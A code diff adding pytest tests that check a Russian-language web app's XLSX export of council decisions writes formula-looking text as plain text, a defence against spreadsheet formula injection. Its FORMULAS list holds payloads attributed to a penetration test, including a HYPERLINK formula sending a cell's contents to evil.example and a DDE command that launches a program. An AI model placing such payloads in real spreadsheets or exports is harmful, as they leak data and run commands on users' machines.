@@ -75,3 +75,34 @@ def test_too_big_an_export_is_refused(world, secretary, monkeypatch):
     assert response.status_code == 303 and "status=all" in response.location
     page = secretary.get(response.location).get_data(as_text=True)
     assert "больше 1 поручений: уточните фильтр" in page
+
+
+# Text a spreadsheet would run as a formula (the penetration test's two, and each first character).
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&C2,"Отчёт")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def assert_no_formula(book, written: list[str]) -> None:
+    """No cell of ``book`` is a formula, and each of ``written`` is there as the text it was."""
+    texts = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+    # Every one of them reached a cell whole (names and titles may add to it: a cell holds it).
+    for value in written:
+        assert any(value in text for text in texts), value
+
+
+def test_xlsx_writes_formula_looking_text_as_text(world, secretary):
+    world.council.name = FORMULAS[0]
+    world.lead.surname = FORMULAS[2]
+    support.decision(world.meeting, world.lead, deadline=date(2021, 11, 30), status="done", text=FORMULAS[1],
+                     report_text=FORMULAS[3], report_date=date(2021, 11, 12), report_link=FORMULAS[4])
+    support.decision(world.meeting, world.co, status="cancelled", cancel_reason=FORMULAS[5], text=FORMULAS[6])
+    db.session.commit()
+    response = secretary.get("/decisions/export.xlsx?status=all")
+    assert response.status_code == 200
+    assert_no_formula(load_workbook(io.BytesIO(response.data)), FORMULAS[1:])
